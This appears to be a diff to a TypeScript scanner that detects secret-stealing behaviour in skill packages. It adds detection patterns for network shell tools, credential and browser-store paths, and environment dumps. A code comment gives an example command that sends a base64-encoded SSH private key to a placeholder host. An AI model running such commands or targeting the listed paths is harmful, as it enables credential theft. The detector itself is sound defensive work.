@@ -10,6 +10,7 @@ import {
   isProhibited,
   isProseMention,
   isSignatureContext,
+  lineWindow,
   onePerLine,
 } from './credential-access.ts';
 
@@ -56,7 +57,7 @@ const SECRET_NAME_FILTER = /\b(?:KEY|SECRET|TOKEN|PASSW(?:OR)?D|CREDENTIAL|API|A
 // A list of secret-like names to filter variables by: ["KEY", "SECRET", "TOKEN", ...].
 const SECRET_NAME_LIST = /["'](?:KEY|SECRET|TOKEN|PASSWORD|CREDENTIAL|API|AUTH|PRIVATE)["']\s*,\s*["'](?:KEY|SECRET|TOKEN|PASSWORD|CREDENTIAL|API|AUTH|PRIVATE)["']/i;
 const SERIALISED = /\b(?:json|JSON|base64|b64encode|btoa|encode|stringify|dumps|str\(|repr\(|curl|post|send|write|upload)\b/;
-const SUBPROCESS_ENV = /^\s*(?:const|let|var)?\s*(?:\w*_)?env(?:iron(?:ment)?)?\s*[:=]|\benv\s*=\s*(?:dict|\{|os\.environ)|\benv\s*:\s*\{|spawn|subprocess|Popen|execFile|child_process/i;
+const SUBPROCESS_ENV = /^\s*(?:(?:const|let|var)\s+)?(?:\w*_)?env(?:iron(?:ment)?)?\s*[:=]|\benv\s*=\s*(?:dict|\{|os\.environ)|\benv\s*:\s*\{|spawn|subprocess|Popen|execFile|child_process/i;
 
 /** Environment dumps that look like harvesting (filtered for secrets or serialised). */
 function envHarvestHits(text: string, from: number, to: number): { index: number; length: number }[] {
@@ -64,14 +65,16 @@ function envHarvestHits(text: string, from: number, to: number): { index: number
   const slice = text.slice(from, to);
   ENV_HARVEST.lastIndex = 0;
   let m: RegExpExecArray | null;
-  while ((m = ENV_HARVEST.exec(slice)) !== null) {
+  let tries = 0;
+  while ((m = ENV_HARVEST.exec(slice)) !== null && tries++ < 200) {
     if (m[0].length === 0) {
       ENV_HARVEST.lastIndex++;
       continue;
     }
-    const lineStart = slice.lastIndexOf('\n', m.index) + 1;
+    // The line around the match, bounded: minified files have megabyte-long lines.
+    const lineStart = Math.max(slice.lastIndexOf('\n', m.index) + 1, m.index - 300);
     const lineEnd = slice.indexOf('\n', m.index);
-    const line = slice.slice(lineStart, lineEnd < 0 ? slice.length : lineEnd);
+    const line = slice.slice(lineStart, Math.min(lineEnd < 0 ? slice.length : lineEnd, m.index + m[0].length + 300));
     const around = nearbyLines(slice, m.index, 3);
     const shellDump = /printenv|env\s*(?:\||>|\))|env:/.test(m[0]);
     const filtered = SECRET_NAME_FILTER.test(around) || SECRET_NAME_LIST.test(slice);
@@ -82,15 +85,16 @@ function envHarvestHits(text: string, from: number, to: number): { index: number
   return hits;
 }
 
+/** The lines within `radius` lines of an offset, at most 1000 characters each way. */
 function nearbyLines(text: string, index: number, radius: number): string {
   let start = index;
-  for (let i = 0; i <= radius && start > 0; i++) start = text.lastIndexOf('\n', start - 1) + 1 || 0;
+  for (let i = 0; i <= radius && start > 0; i++) start = text.lastIndexOf('\n', start - 2) + 1;
   let end = index;
-  for (let i = 0; i <= radius && end >= 0 && end < text.length; i++) {
+  for (let i = 0; i <= radius && end < text.length; i++) {
     const next = text.indexOf('\n', end + 1);
     end = next < 0 ? text.length : next;
   }
-  return text.slice(start, end);
+  return text.slice(Math.max(start, index - 1000), Math.min(end, index + 1000));
 }
 
 // Network sends that carry data (a plain GET download is not a sink).
@@ -103,7 +107,8 @@ const NETWORK_SEND_ONE = new RegExp(NETWORK_SEND.source, 'i');
 const READ_OP =
   /\b(?:cat|less|head|tail|base64|xxd|strings|cp|tar|zip|7z|sqlite3|Get-Content|find|readFile|readFileSync|read_text|read_bytes|readlines|fopen|glob|copyfile|copytree|listdir|readdir)\b|\bopen\s*\(|\.read\s*\(|\bfs\.\w+/;
 const COMMENT_LINE = /^\s*(?:#(?!!)|\/\/|\/\*|\*|--|REM\b|::)/;
-const SETUP_LINE = /(?<![\w./-])(?:ssh|ssh-add|ssh-keygen|chmod|chown|mkdir)\s|load_dotenv|dotenv|\.gitignore|>>?\s*["']?[~$\w./-]*$/;
+const SETUP_LINE =
+  /(?<![\w./-])(?:ssh|ssh-add|ssh-keygen|ssh-copy-id|chmod|chown|mkdir|touch|kubectl|helm)\s|load_dotenv|dotenv|\.gitignore|KUBECONFIG|--kubeconfig|IdentityFile|GIT_SSH_COMMAND|\s-i\s+["']?~?\/?[\w./-]*\.ssh|>>?\s*["']?[~$\w./-]*$/;
 const KEYCHAIN_SOURCE = /\bsecurity\s+(?:dump-keychain|find-generic-password|find-internet-password)\b|\bbrowser_cookie3\b|\bsecret-tool\s+lookup\b|\bCryptUnprotectData\b/;
 
 interface Hit {
@@ -120,11 +125,18 @@ function codeSources(file: FileView, from: number, to: number): Hit[] {
   const readsFiles = READ_OP.test(region);
   SECRET_PATH_G.lastIndex = 0;
   let m: RegExpExecArray | null;
-  while ((m = SECRET_PATH_G.exec(region)) !== null) {
+  let tries = 0;
+  while (readsFiles && (m = SECRET_PATH_G.exec(region)) !== null && tries++ < 200) {
     const index = from + m.index;
-    const line = file.lineAt(index);
-    if (COMMENT_LINE.test(line) || SETUP_LINE.test(line) || isSignatureContext(file, index)) continue;
-    if (!readsFiles) break;
+    const line = lineWindow(file, index, m[0].length);
+    if (COMMENT_LINE.test(file.lineAt(index)) || SETUP_LINE.test(line) || isSignatureContext(file, index)) continue;
+    // A path counts when the line reads it, when the line lists several credential paths (a target
+    // list read in a loop), or when it is stored in a variable the code uses again.
+    const stored = /^\s*(?:(?:const|let|var|export|local)\s+)?([A-Za-z_$][\w$]{0,40})\s*[:=]/.exec(file.lineAt(index))?.[1];
+    const reused = stored !== undefined && region.split(stored).length > 2;
+    const listed = (line.match(SECRET_PATH_G) ?? []).length >= 2;
+    SECRET_PATH_G.lastIndex = m.index + m[0].length;
+    if (!READ_OP.test(line) && !listed && !reused) continue;
     hits.push({ index, length: m[0].length, label: m[0] });
     if (hits.length >= 10) break;
   }
@@ -138,12 +150,18 @@ function codeSources(file: FileView, from: number, to: number): Hit[] {
   return hits.sort((a, b) => a.index - b.index);
 }
 
-function codeSinks(file: FileView, from: number, to: number): Hit[] {
+// Any network call, for the strongest sources (private keys, browser stores, wallets, history,
+// environment dumps): with those, even a GET carries the data in its URL.
+const NETWORK_ANY =
+  /\b(?:requests|httpx|session|client|http|https|urllib\.request|axios)\.(?:get|post|put|patch|request|urlopen)\s*\(|\burlopen\s*\(|\bfetch\s*\(|\b(?:curl|wget)\s+[^\n]{0,200}https?:\/\/|\bInvoke-(?:WebRequest|RestMethod)\b|\b(?:iwr|irm)\s/gi;
+const STRONG_SOURCE = /\.ssh|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|Login Data|Cookies|logins\.json|key[34]\.db|cookies\.sqlite|wallet\.dat|seed\.txt|_history|\/etc\/shadow|login\.keychain|\.gnupg|\.kdbx|the whole environment|security\s|browser_cookie3|secret-tool|CryptUnprotectData/;
+
+function codeSinks(file: FileView, from: number, to: number, re: RegExp = NETWORK_SEND): Hit[] {
   const region = file.text.slice(from, to);
   const hits: Hit[] = [];
-  NETWORK_SEND.lastIndex = 0;
+  re.lastIndex = 0;
   let m: RegExpExecArray | null;
-  while ((m = NETWORK_SEND.exec(region)) !== null) {
+  while ((m = re.exec(region)) !== null) {
     const index = from + m.index;
     if (!COMMENT_LINE.test(file.lineAt(index))) hits.push({ index, length: m[0].length, label: m[0].split(/\s/)[0] });
     if (hits.length >= 10) break;
@@ -206,30 +224,29 @@ function unitsOf(skill: SkillView): Unit[] {
   return units;
 }
 
-function proseSources(unit: Unit): Hit[] {
-  const text = proseOf(unit.file).slice(0, unit.end);
+// Prose patterns run once per file; units then take the hits inside their range.
+const proseHitCache = new WeakMap<FileView, Map<RegExp, Hit[]>>();
+
+function proseHits(file: FileView, re: RegExp): Hit[] {
+  let perFile = proseHitCache.get(file);
+  if (!perFile) proseHitCache.set(file, (perFile = new Map()));
+  const cached = perFile.get(re);
+  if (cached) return cached;
   const hits: Hit[] = [];
-  PROSE_SOURCE.lastIndex = unit.start;
+  const text = proseOf(file);
+  re.lastIndex = 0;
   let m: RegExpExecArray | null;
-  while ((m = PROSE_SOURCE.exec(text)) !== null) {
-    if (proseKept(unit.file, m.index)) hits.push({ index: m.index, length: m[0].length, label: m[0] });
-    if (hits.length >= 5) break;
+  while ((m = re.exec(text)) !== null && hits.length < 100) {
+    if (fenceAt(file, m.index) || !proseKept(file, m.index)) continue;
+    if (/\b(?:anthropic\.com|openai\.com|googleapis\.com|localhost|127\.0\.0\.1)\b/.test(m[0])) continue;
+    hits.push({ index: m.index, length: m[0].length, label: m[0] });
   }
+  perFile.set(re, hits);
   return hits;
 }
 
-function proseSinks(unit: Unit, re: RegExp): Hit[] {
-  const text = proseOf(unit.file).slice(0, unit.end);
-  const hits: Hit[] = [];
-  re.lastIndex = unit.start;
-  let m: RegExpExecArray | null;
-  while ((m = re.exec(text)) !== null) {
-    if (proseKept(unit.file, m.index) && !/\b(?:anthropic\.com|openai\.com|googleapis\.com|localhost|127\.0\.0\.1)\b/.test(m[0])) {
-      hits.push({ index: m.index, length: m[0].length, label: m[0] });
-    }
-    if (hits.length >= 5) break;
-  }
-  return hits;
+function hitsIn(unit: Unit, re: RegExp): Hit[] {
+  return proseHits(unit.file, re).filter((h) => h.index >= unit.start && h.index < unit.end);
 }
 
 function shorten(s: string, n = 60): string {
@@ -244,7 +261,8 @@ function secretFlows(_file: FileView, skill: SkillView): RuleMatch[] {
   for (const unit of unitsOf(skill)) {
     if (unit.code) {
       const sources = codeSources(unit.file, unit.start, unit.end);
-      const sinks = codeSinks(unit.file, unit.start, unit.end);
+      let sinks = codeSinks(unit.file, unit.start, unit.end);
+      if (!sinks.length && sources.some((s) => STRONG_SOURCE.test(s.label))) sinks = codeSinks(unit.file, unit.start, unit.end, NETWORK_ANY);
       if (sources.length && sinks.length) {
         out.push({
           index: sources[0].index,
@@ -259,13 +277,13 @@ function secretFlows(_file: FileView, skill: SkillView): RuleMatch[] {
       if (sinks.length) sinkUnits.push({ unit, hit: sinks[0] });
       continue;
     }
-    const together = proseSinks(unit, PROSE_SEND_SECRETS);
+    const together = hitsIn(unit, PROSE_SEND_SECRETS);
     if (together.length) {
       out.push({ index: together[0].index, length: together[0].length, file: unit.file, severity: 'critical', message: `Instructs sending secrets out: "${shorten(together[0].label)}"` });
       continue;
     }
-    const sources = proseSources(unit);
-    const sinks = sources.length ? proseSinks(unit, PROSE_SINK) : [];
+    const sources = hitsIn(unit, PROSE_SOURCE);
+    const sinks = sources.length ? hitsIn(unit, PROSE_SINK) : [];
     if (sources.length && sinks.length) {
       out.push({
         index: sources[0].index,
@@ -300,20 +318,50 @@ const UPLOAD_FLAG_ARG =
 const DOLLAR_SUBSTITUTION = /\$\(([^()\n]{1,200})\)/g;
 // Backticks are command substitution in scripts but inline code in markdown.
 const BACKTICK_SUBSTITUTION = /`([^`\n]{1,200})`/g;
-const RECON = /^\s*(?:uname|whoami|hostname|id|env|printenv|ifconfig|ip\s+a|ipconfig|cat\s+\/etc\/(?:passwd|hosts|os-release)|ps\s|ls\s|pwd|git\s+config)/;
+// Host and user details. `uname -s`/`uname -m` pick a download for the platform and are not recon.
+const RECON = /^\s*(?:uname\s+(?:-\w*a|--all)|whoami|hostname|id\b|env\b|printenv|ifconfig|ip\s+a|ipconfig|cat\s+\/etc\/(?:passwd|hosts|os-release)|ps\s|ls\s|pwd|git\s+config)/;
 const NETCAT_INPUT = /(?<![\w-])(?:nc|ncat|netcat|socat)\b[^\n<]{0,100}<\s*["']?([^\s"']+)/;
 const REMOTE_COPY = /\b(?:scp|rsync)\b([^\n]{0,300})\s[\w.-]+@[\w.-]+:/;
-const PIPE_TO_UPLOAD = /\|\s*(?:sudo\s+)?(?:curl|wget|nc|ncat|netcat|socat|http|xh)\b/;
+const PIPE_TO_UPLOAD = /\|\s*(?:sudo\s+)?(?:curl|wget|nc|ncat|netcat|socat|http|xh|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b/;
+// A URL built from a command substitution: curl "https://x/?d=$(cat ~/.ssh/id_rsa | base64)".
+const URL_WITH_SUBSTITUTION = /https?:\/\/[^\s"'`]*\$\(/;
+
+/**
+ * Logical lines, with very long ones (minified code, padding) cut into windows that start at each
+ * network tool: a command line is short, and the windows keep the work linear.
+ */
+function commandLines(text: string): { start: number; line: string }[] {
+  const out: { start: number; line: string }[] = [];
+  for (const l of logicalLines(text)) {
+    if (l.line.length <= 4000) {
+      out.push(l);
+      continue;
+    }
+    const tool = new RegExp(UPLOAD_TOOL.source, 'g');
+    let m: RegExpExecArray | null;
+    let windows = 0;
+    let covered = -1;
+    while ((m = tool.exec(l.line)) !== null && windows < 50) {
+      const from = Math.max(m.index - 400, covered, 0);
+      out.push({ start: l.start + from, line: l.line.slice(from, m.index + 1200) });
+      covered = m.index + 1200;
+      tool.lastIndex = covered;
+      windows++;
+    }
+  }
+  return out;
+}
 
 function uploadMatches(file: FileView): RuleMatch[] {
   const out: RuleMatch[] = [];
-  for (const { start, line } of logicalLines(file.text)) {
+  for (const { start, line } of commandLines(file.text)) {
     if (!UPLOAD_TOOL.test(line) || COMMENT_LINE.test(line)) continue;
     if (isProseMention(file, start) && !file.inCode(start + line.search(UPLOAD_TOOL))) continue;
     if (isSignatureContext(file, start)) continue;
     let severity: Severity | null = null;
     let what = '';
-    const isSender = NETWORK_SEND_ONE.test(line) || PIPE_TO_UPLOAD.test(line) || NETCAT_INPUT.test(line) || REMOTE_COPY.test(line);
+    const inUrl = URL_WITH_SUBSTITUTION.test(line);
+    const isSender = NETWORK_SEND_ONE.test(line) || PIPE_TO_UPLOAD.test(line) || NETCAT_INPUT.test(line) || REMOTE_COPY.test(line) || inUrl;
     if (!isSender) continue;
     // Flag arguments: -d @~/.ssh/id_rsa, -F f=@.env, -T ~/.aws/credentials.
     UPLOAD_FLAG_ARG.lastIndex = 0;
@@ -333,7 +381,7 @@ function uploadMatches(file: FileView): RuleMatch[] {
       if (SECRET_PATH.test(inner) && /\b(?:cat|base64|tar|head|tail|xxd)\b/.test(inner)) {
         severity = 'critical';
         what = inner;
-      } else if (RECON.test(inner) && /\s-(?:d|F|T)\b|--data|--form|-Body/.test(line)) {
+      } else if (RECON.test(inner) && (/\s-(?:d|F|T)\b|--data|--form|-Body/.test(line) || inUrl)) {
         severity = 'high';
         what = inner;
       }
@@ -396,7 +444,8 @@ const CODE_SECRET_ENV = new RegExp(
   'g',
 );
 const WHOLE_ENV = /\bjson\.dumps\(\s*(?:dict\()?\s*os\.environ\b|[=:]\s*os\.environ\s*[,)}]|\bdict\(\s*os\.environ\s*\)|\bos\.environ\.copy\(\)|\{\s*\*\*os\.environ\s*\}|\bJSON\.stringify\(\s*process\.env\s*\)|\{\s*\.\.\.process\.env\s*\}|\$\((?:printenv|env)\)/;
-const ASSIGNMENT = /^[ \t]*(?:(?:const|let|var|export|local|readonly)\s+)?([A-Za-z_$][\w$]{0,40})[ \t]*(?::[ \t]*[\w[\]<>|. ]{1,40})?[ \t]*=(?![=>~])[ \t]*([^\n]{1,400})$/gm;
+// Linear by construction: one whitespace run before "=", the right-hand side cut at 400 characters.
+const ASSIGNMENT = /^[ \t]*(?:(?:const|let|var|export|local|readonly)[ \t]+)?([A-Za-z_$][\w$]{0,40})[ \t]*(?::[^=\n]{1,40})?=(?![=>~])([^\n]{0,400})/gm;
 const ENCODES = /\b(?:b64encode|b32encode|b85encode|hexlify|btoa|base64|encodebytes|urlsafe_b64encode)\b|\.toString\(\s*["'](?:base64|hex)["']\)|\.hex\(\)/;
 const GENERIC_NAME_PARTS = new Set(['API', 'KEY', 'KEYS', 'TOKEN', 'SECRET', 'ACCESS', 'AUTH', 'CLIENT', 'BOT', 'PRIVATE', 'PASSWORD', 'PASSWD', 'PASS', 'APP', 'ID', 'USER', 'PERSONAL', 'OAUTH', 'REFRESH', 'SESSION', 'SERVICE', 'ACCOUNT', 'CREDENTIALS', 'CREDENTIAL', 'URL', 'DSN', 'PAT', 'SECRETS', 'MY', 'THE', 'PROD', 'DEV', 'TEST']);
 const VENDOR_HOSTS: Record<string, string[]> = {
@@ -425,6 +474,16 @@ interface Taint {
   encoded: boolean;
 }
 
+/** The taint of the first tainted identifier mentioned in `code` (member accesses like a.b are skipped). */
+function taintOfIdentifiers(code: string, tainted: Map<string, Taint>): Taint | undefined {
+  if (tainted.size === 0) return undefined;
+  for (const id of code.matchAll(/(?<![\w$.])[A-Za-z_$][\w$]{0,40}(?![\w$])/g)) {
+    const t = tainted.get(id[0]);
+    if (t) return t;
+  }
+  return undefined;
+}
+
 function taintedVariables(region: string): Map<string, Taint> {
   const assignments: { name: string; rhs: string }[] = [];
   ASSIGNMENT.lastIndex = 0;
@@ -450,17 +509,16 @@ function taintedVariables(region: string): Map<string, Taint> {
       if (env && SECRET_NAME_SHAPE.test(envName)) tainted.set(name, { env: envName, encoded: ENCODES.test(rhs) });
       else if (WHOLE_ENV.test(rhs)) tainted.set(name, { env: 'the whole environment', encoded: ENCODES.test(rhs) });
       else {
-        for (const [t, taint] of tainted) {
-          if (new RegExp(String.raw`(?<![\w$.])${t.replace(/\$/g, '\\$')}(?![\w$])`).test(rhs)) {
-            tainted.set(name, { env: taint.env, encoded: taint.encoded || ENCODES.test(rhs) });
-            break;
-          }
-        }
+        const from = taintOfIdentifiers(rhs, tainted);
+        if (from) tainted.set(name, { env: from.env, encoded: from.encoded || ENCODES.test(rhs) });
       }
     }
   }
   return tainted;
 }
+
+// Calls examined per code region: real scripts make a handful of requests; thousands are padding.
+const MAX_CALLS = 200;
 
 /** The text of a call from its opening parenthesis to the matching close (bounded). */
 function callText(text: string, start: number): string {
@@ -516,23 +574,23 @@ function secretRequestFlows(file: FileView, from: number, to: number): Flow[] {
   }
   const flows: Flow[] = [];
   const judge = (index: number, length: number, body: string, destination: string) => {
-    let taint: Taint | undefined;
+    // Every tainted value in the body; the worst one (the whole environment, then an encoded secret) decides.
+    const found: Taint[] = [];
+    if (WHOLE_ENV.test(body)) found.push({ env: 'the whole environment', encoded: false });
     CODE_SECRET_ENV.lastIndex = 0;
     let env: RegExpExecArray | null;
-    while (!taint && (env = CODE_SECRET_ENV.exec(body)) !== null) {
+    while ((env = CODE_SECRET_ENV.exec(body)) !== null && found.length < 20) {
       const name = env[1] ?? env[2] ?? env[3];
-      if (SECRET_NAME_SHAPE.test(name)) taint = { env: name, encoded: ENCODES.test(body) };
+      if (SECRET_NAME_SHAPE.test(name)) found.push({ env: name, encoded: ENCODES.test(body) });
     }
-    if (!taint && WHOLE_ENV.test(body)) taint = { env: 'the whole environment', encoded: false };
-    if (!taint) {
-      for (const [name, t] of tainted) {
-        if (new RegExp(String.raw`(?<![\w$.])\$?\{?${name.replace(/\$/g, '\\$')}(?![\w$])`).test(body)) {
-          taint = t;
-          break;
-        }
-      }
+    for (const id of body.matchAll(/(?<![\w$.])[A-Za-z_$][\w$]{0,40}(?![\w$])/g)) {
+      const t = tainted.get(id[0]);
+      if (t) found.push(t);
+      if (found.length >= 20) break;
     }
-    if (!taint) return;
+    if (!found.length) return;
+    const rank = (t: Taint) => (t.env === 'the whole environment' ? 2 : t.encoded ? 1 : 0);
+    const taint = found.reduce((a, b) => (rank(b) > rank(a) ? b : a));
     const whole = taint.env === 'the whole environment';
     if (destination === 'configured' && !whole && !taint.encoded) return;
     const host = destination === 'encoded' || destination === 'configured' ? '' : hostOf(destination);
@@ -546,7 +604,8 @@ function secretRequestFlows(file: FileView, from: number, to: number): Flow[] {
   };
   REQUEST_CALL.lastIndex = 0;
   let m: RegExpExecArray | null;
-  while ((m = REQUEST_CALL.exec(region)) !== null) {
+  let calls = 0;
+  while ((m = REQUEST_CALL.exec(region)) !== null && calls++ < MAX_CALLS) {
     const call = callText(region, m.index);
     if (/^fetch/.test(call) && !/\bbody\s*:/.test(call)) continue;
     const body = call.replace(HEADERS_PART, ' ');
@@ -560,7 +619,9 @@ function secretRequestFlows(file: FileView, from: number, to: number): Flow[] {
     const destination = literal ?? known ?? (configured ? 'configured' : '');
     judge(from + m.index, m[0].length, body.replace(URL_LITERAL, ' '), destination);
   }
+  let lines = 0;
   for (const c of region.matchAll(CURL_DATA_LINE)) {
+    if (lines++ >= MAX_CALLS) break;
     const line = c[0];
     const body = line.replace(/-H\s+["'][^"'\n]{0,300}["']/g, ' ').replace(/--header\s+["'][^"'\n]{0,300}["']/g, ' ').replace(URL_LITERAL, ' ');
     const lineStart = region.lastIndexOf('\n', c.index) + 1;
@@ -587,7 +648,8 @@ function secretBodyMatches(file: FileView): RuleMatch[] {
     const region = text.slice(from, to);
     REQUEST_CALL.lastIndex = 0;
     let m: RegExpExecArray | null;
-    while ((m = REQUEST_CALL.exec(region)) !== null) {
+    let calls = 0;
+    while ((m = REQUEST_CALL.exec(region)) !== null && calls++ < MAX_CALLS) {
       const call = callText(region, m.index);
       if (/^fetch/.test(call) && !/\bbody\s*:/.test(call)) continue;
       if (/^(?:urllib\.request\.)?Request/.test(call) && !/\bdata\s*=/.test(call)) continue;
@@ -697,11 +759,14 @@ const ARCHIVE_PROSE =
   /\b(?:zip|compress|archive|tar|bundle|pack)\s+(?:up\s+)?(?:the\s+|your\s+|all\s+|their\s+)?(?:entire\s+|whole\s+|complete\s+)?(?:home directory|home folder|~\/|user'?s? (?:files|documents|home)|documents folder|ssh (?:directory|folder|keys)|\.ssh|\.aws|workspace|project|repository|repo)\b[^.\n]{0,80}?\b(?:and\s+)?(?:upload|send|post|transfer|sync|push)\b[^.\n]{0,60}?\b(?:to|via)\b/gi;
 const MAKE_ARCHIVE_HOME = /\b(?:shutil\.make_archive|zipfile\.ZipFile|tarfile\.open)\s*\([^\n]{0,200}/g;
 
+const SENDER_WORD = /\b(?:curl|wget|scp|rsync|nc|ncat|ftp|s3|gsutil|rclone|http)\b/;
+
 function archiveMatches(file: FileView): RuleMatch[] {
   const out: RuleMatch[] = [];
   ARCHIVE_SEND.lastIndex = 0;
   let m: RegExpExecArray | null;
-  while ((m = ARCHIVE_SEND.exec(file.text)) !== null) {
+  const sends = SENDER_WORD.test(file.text);
+  while (sends && (m = ARCHIVE_SEND.exec(file.text)) !== null) {
     if (isProseMention(file, m.index) && !file.inCode(m.index)) continue;
     if (COMMENT_LINE.test(file.lineAt(m.index))) continue;
     const sensitive = SECRET_PATH.test(m[1]) || /\/tmp\/\./.test(m[1]);
@@ -774,7 +839,7 @@ function captureMatches(file: FileView, skill: SkillView): RuleMatch[] {
       if (isSignatureContext(file, m.index) || COMMENT_LINE.test(file.lineAt(m.index))) continue;
       // Prose and inline code name these APIs (lists of keylogger indicators); fenced code uses them.
       if (isProseMention(file, m.index)) continue;
-      if (label === 'Reads shell history' && !HISTORY_READ.test(file.lineAt(m.index))) continue;
+      if (label === 'Reads shell history' && !HISTORY_READ.test(lineWindow(file, m.index, m.length))) continue;
       sendsOut ??= skill.files.some((f) => f.kind === 'script' && codeSinks(f, 0, f.text.length).length > 0);
       out.push({ ...m, severity: sendsOut && severity === 'medium' ? 'high' : severity, message: sendsOut ? `${label} in a skill that sends data out` : label });
     }
